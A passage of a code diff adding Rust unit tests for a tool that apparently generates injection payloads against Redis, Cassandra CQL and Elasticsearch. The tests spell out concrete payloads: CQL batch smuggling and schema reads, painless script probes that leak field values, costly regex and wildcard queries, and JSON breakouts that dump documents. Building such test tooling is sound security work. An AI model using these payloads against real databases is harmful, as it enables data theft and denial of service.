+        assert!(encoded.iter().all(|p| !p.contains('\r')));
+    }
+
+    #[test]
+    fn test_redis_injection_keeps_input_prefix() {
+        let payloads = redis_injection("user:1");
+        assert!(payloads.iter().all(|p| p.starts_with("user:1")));
+    }
+
+    #[test]
+    fn test_cql_injection_quote_escapes() {
+        let payloads = cql_injection("bob");
+        assert!(payloads.contains(&"bob'".to_string()));
+        assert!(payloads.contains(&"bob''".to_string()));
+        assert!(payloads.contains(&"bob$$".to_string()));
+    }
+
+    #[test]
+    fn test_cql_injection_allow_filtering() {
+        let payloads = cql_injection("bob");
+        let filtering: Vec<&String> = payloads
+            .iter()
+            .filter(|p| p.contains("ALLOW FILTERING"))
+            .collect();
+        assert!(filtering.len() >= 4);
+        assert!(filtering.iter().any(|p| p.contains("token(id)")));
+    }
+
+    #[test]
+    fn test_cql_injection_batch_smuggling() {
+        let payloads = cql_injection("bob");
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("bob'; BEGIN BATCH") && p.ends_with("APPLY BATCH; --")));
+        assert!(payloads.iter().any(|p| p.contains("system_schema.tables")));
+    }
+
+    #[test]
+    fn test_cql_injection_no_sql_only_syntax() {
+        let payloads = cql_injection("x");
+        assert!(payloads.iter().all(|p| p.starts_with('x')));
+        assert!(payloads
+            .iter()
+            .all(|p| !p.contains(" OR ") && !p.contains("UNION")));
+    }
+
+    #[test]
+    fn test_elasticsearch_injection_painless_scripts() {
+        let payloads = elasticsearch_injection("email");
+        assert!(payloads.contains(
+            &r#"{"script_fields": {"probe": {"script": {"lang": "painless", "source": "doc['email'].value"}}}}"#
+                .to_string()
+        ));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("Debug.explain(doc['email'])")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("doc['email'].value.startsWith('a')")));
+    }
+
+    #[test]
+    fn test_elasticsearch_injection_expensive_queries() {
+        let payloads = elasticsearch_injection("email");
+        assert!(payloads.contains(&r#"{"query": {"regexp": {"email": "(.*a){50}"}}}"#.to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains(r#""wildcard": {"email": "*a*"#)));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains(r#""allow_leading_wildcard": true"#)));
+    }
+
+    #[test]
+    fn test_elasticsearch_injection_json_breakout_balances_template() {
+        let payloads = elasticsearch_injection("email");
+        let breakout = payloads.iter().find(|p| p.contains("post_filter")).unwrap();
+        let query = format!(r#"{{"query": {{"match": {{"name": "{}"}}}}}}"#, breakout);
+        let opens = query.matches('{').count();
+        let closes = query.matches('}').count();
+        assert_eq!(opens, closes);
+        assert!(query.contains(r#""size": 10000"#));
+    }
+
+    #[test]
+    fn test_elasticsearch_injection_escapes_field() {
+        let payloads = elasticsearch_injection("o'k \"x\"");
+        assert!(payloads.contains(
+            &r#"{"script_fields": {"probe": {"script": {"lang": "painless", "source": "doc['o\\'k \"x\"'].value"}}}}"#
+                .to_string()
+        ));
+        assert!(
+            payloads.contains(&r#"{"query": {"regexp": {"o'k \"x\"": "(.*a){50}"}}}"#.to_string())
+        );
+        assert!(payloads.contains(&r#"*) OR (o'k\ \"x\":*"#.to_string()));
+        let breakout = payloads.iter().find(|p| p.contains("post_filter")).unwrap();
+        assert!(breakout.contains(r#""_source": ["o'k \"x\""]"#));
+    }
+
+    #[test]
+    fn test_elasticsearch_injection_lucene_syntax() {
+        let payloads = elasticsearch_injection("email");
+        assert!(payloads.contains(&"*".to_string()));
+        assert!(payloads.contains(&"*) OR (email:*".to_string()));
+        assert!(payloads.contains(&"email:/.*/".to_string()));
+    }
 }